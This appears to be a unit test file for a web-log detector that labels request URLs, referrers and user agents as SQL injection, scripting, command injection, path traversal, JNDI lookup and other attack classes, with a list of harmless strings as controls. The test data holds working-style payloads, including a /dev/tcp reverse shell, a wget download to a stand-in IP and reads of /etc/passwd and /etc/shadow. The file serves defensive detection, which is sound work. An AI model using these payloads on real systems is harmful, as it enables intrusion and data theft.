// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what looks like a placeholder is an attack.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { LogRecord } from '../../../../src/model/envelope.ts';
import { attacksOf } from '../../../../src/sigma/request/judged.ts';

type Request = Pick<LogRecord, 'url' | 'http' | 'user_agent'>;

function record(request: Request): LogRecord {
  return {
    schema: 'lp/1',
    type: 'record',
    timestamp: '2026-11-22T13:36:00.000Z',
    log: { source: 'access.log', offset: 0, format: 'combined' },
    original: '',
    ...request,
  };
}

function attacksIn(value: string): readonly string[] {
  return attacksOf(record({ url: { original: `/search?q=${encodeURIComponent(value).replaceAll('%20', '+')}&page=2` } }));
}

/** By attack, values of a parameter that carry it. */
const attacks: Readonly<Record<string, readonly string[]>> = {
  sql: [
    "1' or '1'='1",
    "1' or 1=1-- -",
    '1" and "a"="a',
    "x') or ('a'='a",
    "admin'--",
    "admin' #",
    '1 union all select null,null,version()',
    "-1' union select 1,group_concat(table_name) from information_schema.tables#",
    '1/*!50000union*//**/select 1,2',
    "1'; drop table users; --",
    '1;exec xp_cmdshell "dir"',
    '1 and sleep(5)',
    '1 and (select count(*) from users) > 0',
    "'||(select utl_inaddr.get_host_address('x') from dual)||'",
    '1 order by 10--',
    "1' group by id having 1=1",
    'if(now()=sysdate(),sleep(3),0)',
    '1 rlike (select (case when (1=1) then 1 else 0x28 end))',
    "1' into outfile '/tmp/x'",
    "1') where 5=5 and (sleep(2)",
    '1 or 0x31=0x31',
    "1' procedure analyse(extractvalue(1,concat(0x3a,version())),1)",
    '\'{"a":1}\'::jsonb <@ \'{"a":1}\'::jsonb or 1=1',
  ],
  script: [
    '<script>alert(1)</script>',
    '"><svg onload=confirm(1)>',
    '<img src=x onerror=alert(1)>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<iframe src=//evil.example>',
    '" onfocus=alert(1) autofocus="',
    "';alert(document.domain)//",
    'javascript:alert(1)',
    '\\u003cscript\\u003ealert(1)',
    '＜script＞alert(1)',
    '[][(![]+[])[+[]]]',
    '<math><mi xlink:href="data:text/html,x">',
    '<body style="x:expression(alert(1))">',
    'vbscript:msgbox(1)',
  ],
  command: [
    'uname -a',
    'ls /',
    '8.8.8.8;$(sleep 5)',
    '127.0.0.1;cat /etc/passwd',
    '127.0.0.1|id',
    '$(whoami)',
    '`id`',
    '|| ping -c 3 192.0.2.1',
    '& dir c:\\',
    ';wget http://192.0.2.1/x -O /tmp/x',
    "1;c'a't /etc/passwd",
    'x;cat$IFS/etc/passwd',
    '{cat,/etc/passwd}',
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    'powershell -enc AAAA',
    'x\nwhoami',
  ],
  php: [
    '<?php phpinfo(); ?>',
    'php://input',
    'phar://x.phar',
    '$_GET[x]',
    ';system("id");',
    'assert($_POST[1])',
    'phpinfo()',
    '${@print(md5(31337))}',
  ],
  expression: [
    '{{7*7}}',
    "{{''.__class__.__mro__}}",
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '%{(#_memberAccess=1)}',
    'T(java.lang.Runtime).getRuntime().exec("id")',
    "require('child_process').exec('id')",
    '__import__("os").system("id")',
    '<!--#exec cmd="id"-->',
    '_$$ND_FUNC$$_function(){}()',
  ],
  traversal: [
    '../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/shadow',
    '....//....//etc/hosts',
    '%252e%252e%252fetc%252fpasswd',
    'file:///etc/passwd',
    'c:\\boot.ini',
    'x.php\0.png',
    '../../wp-config.php',
  ],
  query: [
    '*)(uid=*))(|(uid=*',
    'admin*)((|userPassword=*)',
    '{"$ne":null}',
    '{"$where":"sleep(100)"}',
    'count(/child::node())',
    "' || this.password == 'x",
  ],
  header: ['x\r\nSet-Cookie: a=b', 'x\nGET /admin HTTP/1.1'],
  lookup: ['${jndi:ldap://192.0.2.1/a}', '${${lower:j}ndi:x}', '${${::-j}${::-n}di:rmi://x}', '() { :;}; echo x'],
  serialized: ['O:8:"stdClass":0:{}', 'rO0ABXNyABFqYXZh', 'aced0005737200'],
  xml: ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'],
};

/** Values that harmless pages, programs and people put into addresses. */
const harmless: readonly string[] = [
  "O'Reilly Media",
  "rock 'n' roll or jazz",
  "the boys' and girls' school",
  "McDonald's and Wendy's",
  '"to be" or "not to be"',
  'union select committee',
  'drop table lamp',
  'select name from users',
  'this and that or 1 more',
  'price>10 and price<20',
  "name eq 'John' and age gt 5",
  'title:"hello world" OR body:test',
  '(foo OR bar) AND baz',
  'php sleep(5) not working',
  "john.o'connor@example.co.uk",
  '"John Doe" <john@example.com>, Mary <mary@example.com>',
  '6\'2" and 180 lbs',
  "we're here -- are you?",
  'Tom & Jerry; AT&T | R&D',
  'use `ls` to list files',
  '$("#id").click()',
  '$(document).ready(function(){',
  'alert() in javascript',
  'how to add <script> tag',
  '<b>bold</b> and <a href="https://example.com/">link</a>',
  'i <3 you, x<y and a < b',
  'online=1',
  'java.lang.NullPointerException at com.example.Main',
  "TypeError: Unexpected token '<'",
  'if (a == b) { return c; }',
  'query { user(id: 1) { name } }',
  '{"name":"O\'Brien","tags":["a","b"]}',
  'Hello {{first_name}}, your order {{ order.id }}',
  '${name} costs $100, 50% off',
  'https://www.example.com/path?x=1',
  '../images/logo.png',
  'C:\\Users\\Ann\\Documents\\report.docx',
  'id|name|date',
  'date;asc',
  'cats; cat food & more',
  'head & shoulders',
  'what is /etc/passwd',
  'how to edit /etc/hosts',
  'wget vs curl',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3',
  'dGhpcyBpcyBhIHRlc3QgbWVzc2FnZQ==',
  'a:1 b:2, O:8 position',
  'now()-7d, rate(http_requests_total{job="api"}[5m])',
  "qu'est-ce que c'est? l'amour et l'eau",
  'Привет "мир" или нет',
  "const x = require('lodash')",
  '^(foo|bar)\\d+$',
  'Hello\nWorld\r\nGood bye',
];

describe('attacksOf', () => {
  for (const [attack, values] of Object.entries(attacks)) {
    for (const value of values) {
      it(`sees ${attack} in ${JSON.stringify(value)}`, () => {
        assert.ok(attacksIn(value).includes(attack), `found ${attacksIn(value).join() || 'nothing'}`);
      });
    }
  }

  for (const value of harmless) {
    it(`sees nothing in ${JSON.stringify(value)}`, () => assert.deepEqual(attacksIn(value), []));
  }

  it('sees through what web servers write for quotes', () => {
    assert.deepEqual(attacksOf(record({ url: { original: '/?id=1\\x27 or \\x271\\x27=\\x271' } })), ['sql']);
    assert.deepEqual(attacksOf(record({ url: { original: '/?q=\\"><script>alert(1)</script>' } })), ['script']);
  });

  it('sees through base64', () => {
    const packed = Buffer.from('<?php system("id"); ?>').toString('base64');
    assert.deepEqual(attacksOf(record({ url: { original: `/?x=${encodeURIComponent(packed)}` } })), ['php']);
  });

  it('looks into paths', () => {
    assert.deepEqual(attacksOf(record({ url: { original: '/cgi-bin/.%2e/%2e%2e/bin/sh' } })), ['command', 'traversal']);
    assert.deepEqual(attacksOf(record({ url: { original: "/item/1'%20or%20'1'='1/x" } })), ['sql']);
    assert.deepEqual(attacksOf(record({ url: { original: '/docs/a/../b.html' } })), []);
  });

  it('takes names that OAuth and forms have for no settings of PHP', () => {
    for (const query of ['error_description=User+denied+%28consent%29', 'upload_file=photo+%281%29.jpg', 'session_state=a(b)'])
      assert.deepEqual(attacksOf(record({ url: { original: `/callback?${query}` } })), [], query);
    assert.deepEqual(attacksOf(record({ url: { original: '/?error_log=a(b)' } })), ['php']);
  });

  it('looks at names of parameters', () => {
    assert.deepEqual(attacksOf(record({ url: { original: '/login?pass[$ne]=x' } })), ['query']);
    assert.deepEqual(attacksOf(record({ url: { original: '/api?price[$gt]=5' } })), []);
    assert.deepEqual(attacksOf(record({ url: { original: '/fetch?url=http://127.0.0.1:6379/' } })), ['address']);
    assert.deepEqual(attacksOf(record({ url: { original: '/oauth?redirect_uri=http://127.0.0.1:6379/' } })), []);
  });

  it('looks at the referrer and the user agent', () => {
    const url = { original: '/' };
    assert.deepEqual(attacksOf(record({ url, user_agent: { original: '() { :; }; /bin/id' } })), ['command', 'lookup']);
    assert.deepEqual(attacksOf(record({ url, http: { request: { referrer: "https://x.example/?a=1' or '1'='1" } } })), ['sql']);
    assert.deepEqual(
      attacksOf(record({ url, user_agent: { original: 'Mozilla/5.0 (X11; Linux x86_64; rv:1) (compatible)' } })),
      [],
    );
    assert.deepEqual(attacksOf(record({ url, http: { request: { referrer: 'https://x.example/?q=cat+%26+dog' } } })), []);
  });

  it('passes over fields that hold no text', () => {
    assert.deepEqual(attacksOf(JSON.parse('{"url":{"original":7},"http":{"request":{"referrer":[]}},"user_agent":{}}')), []);
  });

  it('takes a time that grows with the text alone', () => {
    const units = [
      "' or ",
      '<a ',
      '%25',
      '((',
      '/*',
      '"=',
      '$(',
      '{{',
      'select ',
      '..%2f',
      '\\x',
      '&#x',
      ';id ',
      'on a=',
      "''",
      '&a=',
      '](',
      'javascript:',
      'union/**/',
      '=(',
      ' )',
      "'+",
      'document.',
      '${',
    ];
    for (const unit of units) {
      const text = unit.repeat(64_000 / unit.length);
      const started = performance.now();
      attacksOf(
        record({ url: { original: `/?q=${text}` }, user_agent: { original: text }, http: { request: { referrer: text } } }),
      );
      // Hundreds of times what is usual, so that only what grows with the square of the text fails.
      assert.ok(performance.now() - started < 500, unit);
    }
  });
});
